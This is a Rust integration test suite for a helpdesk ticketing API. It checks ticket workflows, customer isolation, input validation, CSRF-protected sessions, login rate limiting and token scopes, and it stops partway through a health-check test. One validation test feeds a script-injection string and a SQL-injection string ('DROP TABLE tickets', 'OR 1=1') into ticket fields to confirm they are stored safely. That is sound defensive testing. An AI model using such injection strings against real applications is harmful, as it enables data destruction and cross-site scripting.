//! The API against the real server: each test starts the app on 127.0.0.1 port 0 over
//! a fresh database and talks HTTP to it. Every story runs on SQLite, and on
//! PostgreSQL when `RECOURSE_TEST_PG_URL` is set (CI always sets it).

use std::sync::Arc;

use recourse_domain::{EmailAddress, Experience, Millis, PersonName, Role};
use recourse_store::{NewAgent, NewApiToken, Principal, Store};
use recourse_web::{AppState, WebConfig, auth};
use reqwest::StatusCode;
use serde_json::{Value, json};

struct TestApp {
    base: String,
    store: Arc<Store>,
    http: reqwest::Client,
    _dir: Option<TempDir>,
}

struct TempDir(std::path::PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn unique() -> String {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(0);
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!(
        "{}_{}_{}",
        std::process::id(),
        t % 1_000_000_000,
        N.fetch_add(1, Ordering::Relaxed)
    )
}

#[derive(Clone, Copy, Debug)]
enum Db {
    Sqlite,
    Postgres,
}

async fn open_store(db: Db) -> Option<(Arc<Store>, Option<TempDir>)> {
    match db {
        Db::Sqlite => {
            let dir = std::env::temp_dir().join(format!("recourse-web-test-{}", unique()));
            let store =
                recourse_store::open(&format!("sqlite://{}", dir.join("recourse.db").display()))
                    .await
                    .unwrap();
            Some((store, Some(TempDir(dir))))
        }
        Db::Postgres => {
            let Ok(url) = std::env::var("RECOURSE_TEST_PG_URL") else {
                assert!(
                    std::env::var_os("CI").is_none(),
                    "CI must set RECOURSE_TEST_PG_URL"
                );
                eprintln!("RECOURSE_TEST_PG_URL not set: skipping the PostgreSQL run");
                return None;
            };
            use sqlx::Connection;
            let name = format!("recourse_web_{}", unique());
            let mut admin = sqlx::PgConnection::connect(&url).await.unwrap();
            sqlx::query(sqlx::AssertSqlSafe(format!("CREATE DATABASE {name}")))
                .execute(&mut admin)
                .await
                .unwrap();
            let (prefix, _) = url.rsplit_once('/').unwrap();
            Some((
                recourse_store::open(&format!("{prefix}/{name}"))
                    .await
                    .unwrap(),
                None,
            ))
        }
    }
}

impl TestApp {
    async fn start(db: Db) -> Option<TestApp> {
        Self::start_with(db, WebConfig::default()).await
    }

    async fn start_with(db: Db, config: WebConfig) -> Option<TestApp> {
        let (store, dir) = open_store(db).await?;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let state = AppState::new(store.clone(), config);
        tokio::spawn(recourse_web::serve(listener, state, std::future::pending()));
        let http = reqwest::Client::builder().build().unwrap();
        Some(TestApp {
            base,
            store,
            http,
            _dir: dir,
        })
    }

    /// An agent straight in the store, with a full-scope token.
    async fn agent(&self, email: &str, role: Role, experience: Experience) -> (i64, String) {
        let agent = self
            .store
            .create_agent(NewAgent {
                email: EmailAddress::parse(email).unwrap(),
                name: PersonName::parse("Test Agent").unwrap(),
                role,
                experience,
                skills: vec![],
                team_id: None,
                capacity: 20,
                password_hash: auth::hash_password("correct horse battery").unwrap(),
                now: Millis(1),
            })
            .await
            .unwrap();
        let token = self.token(Principal::Agent(agent.id), "full").await;
        (agent.id.0, token)
    }

    async fn token(&self, principal: Principal, scope: &str) -> String {
        let secret = auth::new_secret("rct");
        self.store
            .create_api_token(NewApiToken {
                principal,
                name: "test".into(),
                token_hash: auth::sha256_hex(&secret),
                scope: scope.into(),
                now: Millis(1),
            })
            .await
            .unwrap();
        secret
    }

    async fn customer_token(&self, email: &str) -> (i64, String) {
        let c = self
            .store
            .upsert_customer(&EmailAddress::parse(email).unwrap(), None, Millis(1))
            .await
            .unwrap();
        (c.id.0, self.token(Principal::Customer(c.id), "full").await)
    }

    async fn call(
        &self,
        method: &str,
        path: &str,
        token: &str,
        body: Option<Value>,
    ) -> (StatusCode, Value) {
        let mut req = self
            .http
            .request(method.parse().unwrap(), format!("{}{path}", self.base));
        if !token.is_empty() {
            req = req.bearer_auth(token);
        }
        if let Some(b) = body {
            req = req.json(&b);
        }
        let resp = req.send().await.unwrap();
        let status = resp.status();
        let text = resp.text().await.unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    async fn raw(
        &self,
        method: &str,
        path: &str,
        token: &str,
        content_type: &str,
        body: impl Into<reqwest::Body>,
    ) -> (StatusCode, Value) {
        let resp = self
            .http
            .request(method.parse().unwrap(), format!("{}{path}", self.base))
            .bearer_auth(token)
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        let status = resp.status();
        let text = resp.text().await.unwrap();
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }
}

macro_rules! on_both {
    ($($name:ident),+ $(,)?) => {
        mod sqlite {
            $(#[tokio::test] async fn $name() { if let Some(app) = super::TestApp::start(super::Db::Sqlite).await { super::$name(app).await } })+
        }
        mod postgres {
            $(#[tokio::test] async fn $name() { if let Some(app) = super::TestApp::start(super::Db::Postgres).await { super::$name(app).await } })+
        }
    };
}

on_both!(
    ticket_story,
    customers_see_only_their_own,
    bad_inputs_get_specific_4xx,
    sessions_and_csrf,
    roles_and_scopes,
    health_and_metrics,
    ladder_story,
    webhooks_are_signed_and_retried,
    recovery_story,
    judge_and_coach,
    authorisation_matrix,
    canned_replies_story,
    survey_page_works_and_escapes,
    nul_characters_are_refused,
    mail_admin,
    admin_people_tokens_and_webhooks,
    admin_pages_are_for_admins_with_csrf,
    original_email_formatting
);

// The customer portal: sign-in by link, customer sessions, its pages and forms.
mod portal;

/// Create, reply, record an intervention, find it by full-text search, read its history.
async fn ticket_story(app: TestApp) {
    let (agent_id, token) = app
        .agent("eli@example.com", Role::Agent, Experience::Experienced)
        .await;
    let (status, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &token,
            Some(json!({
                "customer": {"email": "Grace@Example.com", "name": "Grace Brennan"},
                "subject": "Kettle arrived with a cracked lid",
                "body": "The lid is cracked right across; water leaks when it boils.",
                "need": "A kettle that does not leak",
                "priority": "high",
                "tags": ["Delivery", "product"]
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{t}");
    assert_eq!(t["status"], "new");
    assert_eq!(t["rung"], "frontline");
    assert_eq!(t["priority"], "high");
    assert_eq!(t["tags"], json!(["delivery", "product"]));
    assert!(t["number"].as_i64().unwrap() >= 1001);
    let id = t["id"].as_i64().unwrap();

    let (status, m) = app
        .call("POST", &format!("/api/v1/tickets/{id}/messages"), &token, Some(json!({"kind": "reply", "body": "I'm sorry about the lid. I can send a new kettle today."})))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{m}");
    assert_eq!(m["ticket"]["status"], "open", "a reply opens a new ticket");
    let (status, _) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/messages"),
            &token,
            Some(json!({"kind": "note", "body": "Batch 42 lids are fragile."})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);

    let (status, i) = app
        .call("POST", &format!("/api/v1/tickets/{id}/interventions"), &token, Some(json!({"kind": "replacement", "description": "Sent a new kettle by tracked courier", "result": "accepted"})))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{i}");
    assert_eq!(i["kind"], "replacement");
    assert_eq!(i["agent_id"], agent_id);

    let (status, p) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id}"),
            &token,
            Some(json!({"assignee_id": agent_id, "status": "pending_customer"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{p}");
    assert_eq!(p["assignee_id"], agent_id);

    let (status, s) = app
        .call("GET", "/api/v1/search?q=cracked%20lid", &token, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(s["hits"][0]["ticket"]["id"], id, "{s}");
    let (_, s) = app
        .call("GET", "/api/v1/search?q=courier", &token, None)
        .await;
    assert!(
        s["hits"].as_array().unwrap().is_empty(),
        "interventions are not message text: {s}"
    );
    let (_, s) = app
        .call("GET", "/api/v1/tickets?q=leaks", &token, None)
        .await;
    assert_eq!(
        s["tickets"][0]["id"], id,
        "list with q searches bodies too: {s}"
    );

    let (status, d) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &token, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(d["need"], "A kettle that does not leak");
    assert_eq!(d["messages"].as_array().unwrap().len(), 3);
    assert_eq!(d["messages"][0]["kind"], "inbound");
    assert_eq!(
        d["interventions"][0]["description"],
        "Sent a new kettle by tracked courier"
    );
    let kinds: Vec<&str> = d["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["type"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "ticket_created",
            "message_added",
            // Routed on arrival to the only agent on the first rung.
            "assignee_changed",
            "message_added",
            "status_changed",
            "message_added",
            "intervention_recorded",
            "status_changed"
        ]
    );
    let status_changes: Vec<&Value> = d["history"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"] == "status_changed")
        .collect();
    assert_eq!(
        status_changes[1]["data"],
        json!({"from": "open", "to": "pending_customer"})
    );

    // Closing needs an outcome unless resolved first; the rule answers 409 with its code.
    let (status, e) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id}"),
            &token,
            Some(json!({"status": "closed"})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::CONFLICT, Some("outcome_required"))
    );
    let (status, _) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id}"),
            &token,
            Some(json!({"status": "resolved"})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, c) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id}"),
            &token,
            Some(json!({"status": "closed"})),
        )
        .await;
    assert_eq!(
        (status, c["outcome"].as_str()),
        (StatusCode::OK, Some("resolved"))
    );
    let (status, e) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/messages"),
            &token,
            Some(json!({"kind": "reply", "body": "one more thing"})),
        )
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::CONFLICT, Some("ticket_closed"))
    );

    // Cursor pagination walks every ticket once.
    for n in 0..4 {
        app.call("POST", "/api/v1/tickets", &token, Some(json!({"customer": {"email": "x@example.com"}, "subject": format!("Page test {n}"), "body": "hello"}))).await;
    }
    let mut seen = Vec::new();
    let mut cursor = String::new();
    loop {
        let (status, page) = app
            .call(
                "GET",
                &format!("/api/v1/tickets?limit=2{cursor}"),
                &token,
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{page}");
        seen.extend(
            page["tickets"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t["id"].as_i64().unwrap()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => cursor = format!("&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(seen.len(), 5);
    assert!(
        seen.windows(2).all(|w| w[0] > w[1]),
        "newest first, no repeats: {seen:?}"
    );
    let (_, closed) = app
        .call("GET", "/api/v1/tickets?status=closed", &token, None)
        .await;
    assert_eq!(closed["tickets"].as_array().unwrap().len(), 1);
    let (_, tagged) = app
        .call(
            "GET",
            "/api/v1/tickets?tag=product&assignee=me",
            &token,
            None,
        )
        .await;
    assert_eq!(tagged["tickets"][0]["id"], id);
    // Every arrival was routed to the one agent present, so nothing waits unassigned...
    let (_, unassigned) = app
        .call("GET", "/api/v1/tickets?assignee=none", &token, None)
        .await;
    assert_eq!(unassigned["tickets"].as_array().unwrap().len(), 0);
    // ...until she steps away: her open tickets go back to the rung's queue.
    let (status, away) = app
        .call(
            "PUT",
            &format!("/api/v1/agents/{agent_id}/presence"),
            &token,
            Some(json!({"present": false})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{away}");
    let (_, unassigned) = app
        .call("GET", "/api/v1/tickets?assignee=none", &token, None)
        .await;
    assert_eq!(unassigned["tickets"].as_array().unwrap().len(), 4);
}

/// A customer's token reaches their own tickets and nothing else.
async fn customers_see_only_their_own(app: TestApp) {
    let (_, agent) = app
        .agent("sam@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, alice) = app.customer_token("alice@example.com").await;
    let (_, bob) = app.customer_token("bob@example.com").await;

    let (status, a) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &alice,
            Some(json!({"subject": "Alice's broken heater", "body": "The heater rattles."})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    let alice_ticket = a["id"].as_i64().unwrap();
    let (status, b) = app.call("POST", "/api/v1/tickets", &bob, Some(json!({"subject": "Bob's heater invoice", "body": "Invoice for the heater is wrong."}))).await;
    assert_eq!(status, StatusCode::CREATED);
    let bob_ticket = b["id"].as_i64().unwrap();
    app.call(
        "POST",
        &format!("/api/v1/tickets/{bob_ticket}/messages"),
        &agent,
        Some(json!({"kind": "note", "body": "Bob is a heater reseller"})),
    )
    .await;

    // Someone else's ticket looks exactly like a missing one.
    for (method, path, body) in [
        ("GET", format!("/api/v1/tickets/{bob_ticket}"), None),
        (
            "POST",
            format!("/api/v1/tickets/{bob_ticket}/messages"),
            Some(json!({"body": "let me in"})),
        ),
    ] {
        let (status, e) = app.call(method, &path, &alice, body).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{method} {path}: {e}");
        assert_eq!(e["error"]["code"], "not_found");
    }
    let (missing_status, missing) = app
        .call("GET", "/api/v1/tickets/999999", &alice, None)
        .await;
    assert_eq!(missing_status, StatusCode::NOT_FOUND);
    let (_, other) = app
        .call(
            "GET",
            &format!("/api/v1/tickets/{bob_ticket}"),
            &alice,
            None,
        )
        .await;
    assert_eq!(
        missing, other,
        "no difference between someone else's ticket and no ticket"
    );

    // Customers cannot edit, add notes, record interventions, or open tickets for others.
    let (status, _) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{alice_ticket}"),
            &alice,
            Some(json!({"priority": "urgent"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{alice_ticket}/messages"),
            &alice,
            Some(json!({"kind": "note", "body": "sneaky"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{alice_ticket}/interventions"),
            &alice,
            Some(json!({"kind": "refund", "description": "gimme"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &alice,
            Some(json!({"customer": {"email": "bob@example.com"}, "subject": "x", "body": "y"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app.call("GET", "/api/v1/agents", &alice, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    // Lists and search are scoped to the caller; notes stay internal.
    let (_, list) = app.call("GET", "/api/v1/tickets", &alice, None).await;
    let ids: Vec<i64> = list["tickets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, [alice_ticket]);
    let (_, s) = app
        .call("GET", "/api/v1/search?q=heater", &alice, None)
        .await;
    let ids: Vec<i64> = s["hits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["ticket"]["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, [alice_ticket]);
    let (_, s) = app
        .call("GET", "/api/v1/search?q=reseller", &bob, None)
        .await;
    assert!(
        s["hits"].as_array().unwrap().is_empty(),
        "a customer's search must not read internal notes"
    );
    let (_, s) = app
        .call("GET", "/api/v1/search?q=reseller", &agent, None)
        .await;
    assert_eq!(s["hits"][0]["ticket"]["id"], bob_ticket);
    let (_, d) = app
        .call("GET", &format!("/api/v1/tickets/{bob_ticket}"), &bob, None)
        .await;
    assert_eq!(
        d["messages"].as_array().unwrap().len(),
        1,
        "the note is hidden from the customer: {d}"
    );

    // The customer's own reply reopens a ticket waiting on them.
    app.call(
        "PATCH",
        &format!("/api/v1/tickets/{alice_ticket}"),
        &agent,
        Some(json!({"status": "pending_customer"})),
    )
    .await;
    let (status, m) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{alice_ticket}/messages"),
            &alice,
            Some(json!({"body": "Still rattling."})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{m}");
    assert_eq!(m["message"]["kind"], "inbound");
    assert_eq!(m["ticket"]["status"], "open");
}

/// Each kind of bad input gets its own 4xx code, and nothing is a 500.
async fn bad_inputs_get_specific_4xx(app: TestApp) {
    let (_, token) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &token,
            Some(json!({"customer": {"email": "c@example.com"}, "subject": "ok", "body": "ok"})),
        )
        .await;
    let id = t["id"].as_i64().unwrap();
    app.call(
        "PATCH",
        &format!("/api/v1/tickets/{id}"),
        &token,
        Some(json!({"status": "open"})),
    )
    .await;
    let ok = |subject: Value| json!({"customer": {"email": "c@example.com"}, "subject": subject, "body": "hello"});
    let json_cases: Vec<(&str, String, Value, u16, &str)> = vec![
        (
            "POST",
            "/api/v1/tickets".into(),
            ok(json!("")),
            422,
            "empty_subject",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            ok(json!("   \n ")),
            422,
            "empty_subject",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            ok(json!("x".repeat(300))),
            422,
            "subject_too_long",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            ok(json!(42)),
            422,
            "wrong_type",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "not-an-email"}, "subject": "s", "body": "b"}),
            422,
            "invalid_email",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b", "priority": "asap"}),
            422,
            "invalid_enum_value",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b", "colour": "red"}),
            422,
            "unknown_field",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "c@example.com"}, "body": "b"}),
            422,
            "missing_field",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"subject": "s", "body": "b"}),
            422,
            "missing_customer",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "  "}),
            422,
            "empty_body",
        ),
        (
            "POST",
            "/api/v1/tickets".into(),
            json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b", "tags": ["two words"]}),
            422,
            "invalid_tag",
        ),
        (
            "POST",
            format!("/api/v1/tickets/{id}/messages"),
            json!({"kind": "shout", "body": "b"}),
            422,
            "invalid_enum_value",
        ),
        (
            "POST",
            format!("/api/v1/tickets/{id}/messages"),
            json!({"body": "b"}),
            422,
            "missing_field",
        ),
        (
            "POST",
            format!("/api/v1/tickets/{id}/interventions"),
            json!({"kind": "refund", "description": ""}),
            422,
            "empty_description",
        ),
        (
            "PATCH",
            format!("/api/v1/tickets/{id}"),
            json!({"status": "new"}),
            409,
            "invalid_status_transition",
        ),
        (
            "PATCH",
            format!("/api/v1/tickets/{id}"),
            json!({"assignee_id": 999999}),
            422,
            "unknown_assignee",
        ),
        (
            "PATCH",
            format!("/api/v1/tickets/{id}"),
            json!({"outcome": "explained"}),
            409,
            "outcome_needs_end",
        ),
        (
            "GET",
            "/api/v1/tickets/abc".into(),
            Value::Null,
            400,
            "invalid_id",
        ),
        (
            "GET",
            "/api/v1/tickets/-1".into(),
            Value::Null,
            400,
            "invalid_id",
        ),
        (
            "GET",
            "/api/v1/tickets/99999999".into(),
            Value::Null,
            404,
            "not_found",
        ),
        (
            "GET",
            "/api/v1/tickets?status=lost".into(),
            Value::Null,
            400,
            "invalid_status",
        ),
        (
            "GET",
            "/api/v1/tickets?limit=1000".into(),
            Value::Null,
            400,
            "invalid_limit",
        ),
        (
            "GET",
            "/api/v1/tickets?cursor=garbage".into(),
            Value::Null,
            400,
            "invalid_cursor",
        ),
        (
            "GET",
            "/api/v1/tickets?limit=ten".into(),
            Value::Null,
            400,
            "invalid_query",
        ),
        (
            "GET",
            "/api/v1/search?q=".into(),
            Value::Null,
            400,
            "empty_query",
        ),
        (
            "GET",
            "/api/v1/nowhere".into(),
            Value::Null,
            404,
            "no_such_route",
        ),
        (
            "DELETE",
            "/api/v1/tickets".into(),
            Value::Null,
            405,
            "method_not_allowed",
        ),
    ];
    for (method, path, body, want, code) in json_cases {
        let body = if body.is_null() { None } else { Some(body) };
        let (status, e) = app.call(method, &path, &token, body).await;
        assert_eq!(
            (status.as_u16(), e["error"]["code"].as_str()),
            (want, Some(code)),
            "{method} {path}: {e}"
        );
        assert!(!e["error"]["message"].as_str().unwrap().is_empty());
    }

    let raw_cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
        (
            "application/json",
            b"{\"subject\": ".to_vec(),
            400,
            "malformed_json",
        ),
        (
            "application/json",
            b"{\"subject\": \"a\" \"body\": 1}".to_vec(),
            400,
            "malformed_json",
        ),
        ("text/plain", b"{}".to_vec(), 415, "unsupported_media_type"),
        (
            "application/json",
            vec![b' '; 10 * 1024 * 1024],
            413,
            "body_too_large",
        ),
    ];
    for (ct, body, want, code) in raw_cases {
        let (status, e) = app.raw("POST", "/api/v1/tickets", &token, ct, body).await;
        assert_eq!(
            (status.as_u16(), e["error"]["code"].as_str()),
            (want, Some(code)),
            "{ct}: {e}"
        );
    }

    let (status, e) = app.call("GET", "/api/v1/tickets", "", None).await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNAUTHORIZED, Some("unauthenticated"))
    );
    let (status, e) = app
        .call("GET", "/api/v1/tickets", "rct_not_a_real_token", None)
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNAUTHORIZED, Some("invalid_token"))
    );

    // Metacharacters are data: stored verbatim, returned verbatim in JSON (escaped by JSON itself).
    let nasty =
        "<script>alert('x')</script> '; DROP TABLE tickets; -- \" OR 1=1 NEAR( * 日本語 Größe";
    let (status, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &token,
            Some(json!({"customer": {"email": "c@example.com"}, "subject": nasty, "body": nasty})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{t}");
    let (_, d) = app
        .call("GET", &format!("/api/v1/tickets/{}", t["id"]), &token, None)
        .await;
    assert_eq!(d["subject"], nasty);
    assert_eq!(d["messages"][0]["body"], nasty);
    let resp = app
        .http
        .get(format!("{}/api/v1/tickets/{}", app.base, t["id"]))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/json")
    );
    for q in [nasty, "\"", "OR", "*", "NEAR(", "a AND", "'"] {
        let (status, _) = app
            .call(
                "GET",
                &format!("/api/v1/search?q={}", urlencode(q)),
                &token,
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK, "search for {q:?}");
    }
    let (_, s) = app
        .call("GET", "/api/v1/search?q=Gr%C3%B6%C3%9Fe", &token, None)
        .await;
    assert_eq!(s["hits"][0]["ticket"]["id"], t["id"]);
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Signing in gives a session cookie; writes with it need the CSRF token; signing out ends it.
async fn sessions_and_csrf(app: TestApp) {
    app.agent("maria@example.com", Role::Manager, Experience::Senior)
        .await;
    let login = |email: &str, password: &str| {
        app.http
            .post(format!("{}/api/v1/auth/login", app.base))
            .json(&json!({"email": email, "password": password}))
            .send()
    };
    let resp = login("maria@example.com", "correct horse battery")
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let cookie_header = resp.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(
        cookie_header.contains("HttpOnly") && cookie_header.contains("SameSite=Lax"),
        "{cookie_header}"
    );
    let cookie = cookie_header.split(';').next().unwrap().to_owned();
    let body: Value = resp.json().await.unwrap();
    let csrf = body["csrf_token"].as_str().unwrap().to_owned();
    assert_eq!(body["agent"]["role"], "manager");

    let with_cookie = |method: &str, path: &str| {
        app.http
            .request(method.parse().unwrap(), format!("{}{path}", app.base))
            .header("cookie", &cookie)
    };
    let me: Value = with_cookie("GET", "/api/v1/me")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(me["email"], "maria@example.com");

    let ticket = json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b"});
    let resp = with_cookie("POST", "/api/v1/tickets")
        .json(&ticket)
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        StatusCode::FORBIDDEN,
        "a cookie alone must not be enough to write"
    );
    let e: Value = resp.json().await.unwrap();
    assert_eq!(e["error"]["code"], "csrf_failed");
    let resp = with_cookie("POST", "/api/v1/tickets")
        .header("x-csrf-token", "csrf_wrong")
        .json(&ticket)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let resp = with_cookie("POST", "/api/v1/tickets")
        .header("x-csrf-token", &csrf)
        .json(&ticket)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    let created: Value = resp.json().await.unwrap();
    let detail: Value = with_cookie("GET", &format!("/api/v1/tickets/{}", created["id"]))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        detail["messages"][0]["channel"], "console",
        "a signed-in agent works in the console"
    );

    let resp = with_cookie("POST", "/api/v1/auth/logout")
        .header("x-csrf-token", &csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::NO_CONTENT);
    let resp = with_cookie("GET", "/api/v1/me").send().await.unwrap();
    assert_eq!(
        resp.status(),
        StatusCode::UNAUTHORIZED,
        "the old cookie must be dead after logout"
    );

    // A second sign-in gets a different session id (no fixation).
    let again = login("maria@example.com", "correct horse battery")
        .await
        .unwrap();
    let cookie2 = again.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    assert_ne!(cookie, cookie2);

    // Wrong password and unknown email read the same; after five failures, 429 with Retry-After.
    let wrong: Value = login("maria@example.com", "nope nope nope")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let unknown: Value = login("nobody@example.com", "nope nope nope")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(wrong, unknown);
    assert_eq!(wrong["error"]["code"], "invalid_credentials");
    let mut limited = None;
    for _ in 0..6 {
        let resp = login("maria@example.com", "still wrong").await.unwrap();
        if resp.status() == StatusCode::TOO_MANY_REQUESTS {
            limited = Some(resp);
            break;
        }
    }
    let resp = limited.expect("login attempts must be limited");
    assert!(resp.headers().contains_key("retry-after"));
    // Even the right password waits now.
    assert_eq!(
        login("maria@example.com", "correct horse battery")
            .await
            .unwrap()
            .status(),
        StatusCode::TOO_MANY_REQUESTS
    );
}

/// Agents cannot do admin work; read-only tokens cannot write; revoked tokens stop working.
async fn roles_and_scopes(app: TestApp) {
    let (_, admin) = app
        .agent("ada@example.com", Role::Admin, Experience::Senior)
        .await;
    let (agent_id, agent) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let new_agent = json!({"email": "new@example.com", "name": "New Person", "role": "agent", "experience": "junior", "password": "long enough password"});
    let (status, _) = app
        .call("POST", "/api/v1/agents", &agent, Some(new_agent.clone()))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, a) = app
        .call("POST", "/api/v1/agents", &admin, Some(new_agent.clone()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    assert!(a.get("password").is_none() && a.get("password_hash").is_none());
    let (status, e) = app
        .call("POST", "/api/v1/agents", &admin, Some(new_agent))
        .await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::CONFLICT, Some("conflict"))
    );

    let read_only = app
        .token(Principal::Agent(recourse_domain::AgentId(agent_id)), "read")
        .await;
    let (status, _) = app.call("GET", "/api/v1/tickets", &read_only, None).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &read_only,
            Some(json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let (status, t) = app
        .call(
            "POST",
            "/api/v1/tokens",
            &agent,
            Some(json!({"name": "laptop"})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let secret = t["token"].as_str().unwrap().to_owned();
    assert_eq!(
        app.call("GET", "/api/v1/me", &secret, None).await.0,
        StatusCode::OK
    );
    let (status, _) = app
        .call(
            "DELETE",
            &format!("/api/v1/tokens/{}", t["id"]),
            &agent,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call(
            "DELETE",
            &format!("/api/v1/tokens/{}", t["id"]),
            &admin,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, e) = app.call("GET", "/api/v1/me", &secret, None).await;
    assert_eq!(
        (status, e["error"]["code"].as_str()),
        (StatusCode::UNAUTHORIZED, Some("invalid_token"))
    );
}

async fn health_and_metrics(app: TestApp) {
    let (_, token) = app
        .agent("ops@example.com", Role::Admin, Experience::Senior)
        .await;
    assert_eq!(
        app.call("GET", "/healthz", "", None).await,
        (StatusCode::OK, json!({"status": "ok"}))
    );
    assert_eq!(
        app.call("GET", "/readyz", "", None).await,
        (StatusCode::OK, json!({"status": "ready"}))
